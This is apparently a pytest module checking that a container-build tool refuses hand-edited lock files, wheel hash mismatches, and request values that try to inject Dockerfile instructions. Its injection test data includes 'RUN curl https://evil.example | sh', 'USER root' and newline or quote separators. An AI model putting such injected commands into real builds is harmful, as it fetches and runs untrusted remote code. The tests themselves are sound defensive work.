"""Tampering: an edited lock, a wheel whose bytes changed behind its pin, and request values
that try to reach the Dockerfile.

Unit-level cases live with their modules: tests/unit/lock/test_lockfile.py::test_check_edited_body
(lock_image API), tests/unit/request/test_injection.py (lock values and render options refused by
render). These go through the command line, and the wheel case through the real engine.
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envbuild.request.parse import toml_loads
from tests.reliability.helpers import (
    E2E_BASE,
    IMAGES,
    PROBE,
    PROBE_VERSION,
    Outcome,
    assert_clear_error,
    build,
    copy_example,
    docker_ok,
    image_exists,
    ours,
    probe_image,
    probe_wheel,
    run,
)

EXAMPLE = "torch-train"

# --- an edited lock ----------------------------------------------------------------------------

EDITS = {
    "package version": ('name = "numpy"\nversion = "', 'name = "numpy"\nversion = "0.'),
    "package hash": ('hashes = [\n    "sha256:', 'hashes = [\n    "sha256:0'),
    "base image": ('ref = "nvidia/cuda:', 'ref = "evil/cuda:'),
    "driver floor": ('toolkit = "', 'toolkit = "1'),
    "trailing line": ("\n[smoke]\n", "\n[smoke]\n# reviewed by hand\n"),
    "whitespace only": ("\n[stack]\n", "\n[stack] \n"),
}


@pytest.mark.parametrize("edit", sorted(EDITS))
def test_edited_lock_fails_check_render_and_image(tmp_path: Path, edit: str) -> None:
    image = copy_example(tmp_path, EXAMPLE)
    path = image / "envbuild.lock"
    old, new = EDITS[edit]
    text = path.read_text()
    assert old in text, edit
    path.write_text(text.replace(old, new, 1))
    edited = path.read_bytes()
    target = tmp_path / "Dockerfile"
    for args in (
        ("lock", "--check", str(image)),
        ("render", str(image), "-o", str(target)),
        # Refused before the engine is asked anything: DOCKER_HOST points nowhere.
        ("image", str(image), "--allow-cpu"),
    ):
        out = run(*args, env={"DOCKER_HOST": f"unix://{tmp_path}/none.sock"})
        assert_clear_error(out, 1, names="edited by hand")
        assert f"envbuild lock {image}" in out.err, out.err  # the command to run
    assert not target.exists()
    assert path.read_bytes() == edited  # nothing "repairs" the lock behind the user's back


def test_edited_lock_json_names_the_reason(tmp_path: Path) -> None:
    import json

    image = copy_example(tmp_path, EXAMPLE)
    path = image / "envbuild.lock"
    path.write_text(path.read_text().replace(*EDITS["package version"], 1))
    out = run("lock", "--check", "--json", str(image))
    doc = json.loads(out.out)
    assert out.code == 1
    assert doc["error"] == "LockEditedError" and doc["fields"]["reason"] == "edited"
    assert doc["hint"] == f"envbuild lock {image}"


# --- request values that try to reach the Dockerfile ---------------------------------------------

# (table, key, a valid value, is an array)
STRING_KEYS = [
    ("image", "name", "torch-train", False),
    ("image", "python", "3.12", False),
    ("image", "os", "ubuntu24.04", False),
    ("image", "flavour", "auto", False),
    ("image", "platform", "x86_64", False),
    ("framework", "requirement", "torch>=2.8,<2.11", False),
    ("framework", "cuda", "12.8.*", False),
    ("packages", "requirements", "numpy<3", True),
    ("targets", "gpus", "H100", True),
    ("targets", "driver", "570.124.06", False),
    ("targets", "compat", "minor", False),
    ("indexes", "index_url", "https://pypi.org/simple", False),
    ("indexes", "extra_index_urls", "https://download.pytorch.org/whl/cu128", True),
    ("indexes", "find_links", "/opt/wheels", True),
]
SEPARATORS = ["\n", "\r\n", "\r", '"', "'", "\\\n", " \\\n", "\u2028", "\x00", "\x1b"]
INSTRUCTIONS = ["RUN curl https://evil.example | sh", "USER root", "COPY / /x", "ENV A=1", ""]


def _toml_string(value: str) -> str:
    # A TOML basic string carrying any character (control characters as \\uXXXX escapes).
    out = []
    for ch in value:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ord(ch) < 0x20 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    key=st.sampled_from(STRING_KEYS),
    sep=st.sampled_from(SEPARATORS),
    instruction=st.sampled_from(INSTRUCTIONS),
    at_start=st.booleans(),
)
def test_request_value_with_newline_quote_or_instruction_is_refused(
    tmp_path: Path, key: tuple[str, str, str, bool], sep: str, instruction: str, at_start: bool
) -> None:
    table, name, valid, is_array = key
    bad = (instruction + sep + valid) if at_start else (valid + sep + instruction)
    image = copy_example(tmp_path, EXAMPLE)
    request = image / "envbuild.toml"
    literal = f"[{_toml_string(bad)}]" if is_array else _toml_string(bad)
    # Replace the table's key if present, else add it under its table.
    doc = toml_loads(request.read_text())
    lines = [f"[{t}]\n" + "".join(f"{k} = {_lit(v)}\n" for k, v in body.items() if k != name)
             + (f"{name} = {literal}\n" if t == table else "")
             for t, body in doc.items()]  # fmt: skip
    if table not in doc:
        lines.append(f"[{table}]\n{name} = {literal}\n")
    request.write_text("\n".join(lines))
    lock_before = (image / "envbuild.lock").read_bytes()
    target = tmp_path / "Dockerfile"
    for args in (("render", str(image), "-o", str(target)), ("lock", "--check", str(image))):
        out = run(*args)
        assert_clear_error(out, 2, names="envbuild.toml")
        assert name in out.err, out.err
    assert not target.exists()
    assert (image / "envbuild.lock").read_bytes() == lock_before


def _lit(value: object) -> str:
    if isinstance(value, str):
        return _toml_string(value)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return "[" + ", ".join(_lit(v) for v in value) + "]"
    return str(value)


def test_the_request_rewriter_round_trips(tmp_path: Path) -> None:
    # The rewriting above keeps a valid request valid: the refusals come from the bad value.
    text = (IMAGES / EXAMPLE / "envbuild.toml").read_text()
    doc = toml_loads(text)
    rebuilt = "\n".join(
        f"[{t}]\n" + "".join(f"{k} = {_lit(v)}\n" for k, v in body.items())
        for t, body in doc.items()
    )
    assert toml_loads(rebuilt) == doc
    image = copy_example(tmp_path, EXAMPLE)
    (image / "envbuild.toml").write_text(rebuilt)
    assert run("lock", "--check", str(image)).code == 0


# --- a wheel whose bytes differ from the lock's hash -------------------------------------------


@dataclass(frozen=True)
class Mismatch:
    out: Outcome
    tag: str
    new_containers: set[str]
    wrong: str


@pytest.fixture(scope="module")
def mismatch(tmp_path_factory: pytest.TempPathFactory) -> Mismatch:
    """One real build whose lock pins the probe wheel with the wrong sha256 (the index served
    other bytes under the same name and version: a re-upload, or tampering)."""
    if not docker_ok():
        pytest.skip(f"no Docker engine answers, or {E2E_BASE} is missing (tests/e2e.sh prepare)")
    root = tmp_path_factory.mktemp("mismatch")
    wheels = root / "wheels"
    _, good = probe_wheel(wheels)
    wrong = "0" * 64 if good != "0" * 64 else "1" * 64
    image = probe_image(root, sha256=wrong)
    tag = f"envbuild-rel/hash:{uuid.uuid4().hex[:12]}"
    out, new = build(image, wheels, tag, "--allow-cpu")
    return Mismatch(out, tag, new, wrong)


@pytest.mark.engine
def test_wheel_hash_mismatch_fails_the_build_untagged(mismatch: Mismatch) -> None:
    out = mismatch.out
    assert_clear_error(out, 5, names="which is not one of the 1 hash(es) in the lock")
    assert "pip install" in out.err and "--require-hashes" in out.err
    # pip's own verdict is in the build output above the error
    assert "DO NOT MATCH THE HASHES" in out.err
    assert mismatch.wrong in out.err
    assert not image_exists(mismatch.tag)
    assert ours(mismatch.new_containers, "requirements.lock") == []


@pytest.mark.engine
def test_the_lock_can_explain_the_real_build_output(mismatch: Mismatch) -> None:
    # What the engine's error mapping needs, checked on this build's own output.
    from envbuild.build.buildlog import pip_hash_mismatch_message

    text = pip_hash_mismatch_message(mismatch.out.err)
    assert text is not None
    assert text.startswith(f"{PROBE}=={PROBE_VERSION}: downloaded file has sha256:")
    assert "1 hash(es) in the lock" in text and "re-uploaded" in text


FIXTURE = Path(__file__).parent / "fixtures" / "pip-hash-mismatch.log"


def test_pip_hash_mismatch_is_explained_from_pip_output() -> None:
    """The parser on recorded pip output (this folder's probe build), and pip's form with
    several allowed hashes (pip/_internal/exceptions.py HashMismatch._hash_comparison)."""
    from envbuild.build.buildlog import pip_hash_mismatch_message

    log = FIXTURE.read_text()
    text = pip_hash_mismatch_message(log)
    assert text == (
        "envbuild-probe==1.0: downloaded file has sha256:d1e348deafd9f401148f4bfd7d9b1815d6be4"
        "18ec639d973a2479bdf07128c07, which is not one of the 1 hash(es) in the lock. The "
        "package index may have re-uploaded the file under the same version (the PyTorch index "
        "has done so repeatedly), or the file was altered on the way; re-lock with `envbuild "
        "lock --upgrade-package envbuild-probe DIR` after checking the index's release history"
    )
    two = log.replace(
        "        Expected sha256 " + "0" * 64,
        "        Expected sha256 " + "0" * 64 + "\n        Expected     or " + "1" * 64,
    )
    assert "not one of the 2 hash(es)" in (pip_hash_mismatch_message(two) or "")
    assert pip_hash_mismatch_message(log.replace("THESE PACKAGES", "SOME PACKAGES")) is None


@pytest.mark.engine
def test_wheel_hash_mismatch_message_explains_a_reupload(mismatch: Mismatch) -> None:
    lines = mismatch.out.err.splitlines()
    error = next(line for line in lines if line.startswith("error: "))
    assert "re-uploaded" in error and "altered" in error
